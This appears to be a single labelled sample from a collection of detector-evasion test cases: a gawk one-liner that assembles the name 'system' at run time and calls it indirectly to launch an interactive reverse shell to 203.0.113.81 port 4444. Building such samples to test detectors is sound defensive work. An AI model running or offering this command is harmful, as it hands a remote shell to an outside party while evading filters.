# evasion: gawk's indirect function call (@f) calls a built-in whose name is joined from two strings at run time
# grade: very hard; does: shell
gawk 'BEGIN {
	f = "sys" "tem"
	c = sprintf("%s -c %s", "/bin/" "sh", "\"sh -i >& /dev/tcp/203.0.113.81/4444 0>&1\"")
	@f(c)
}'
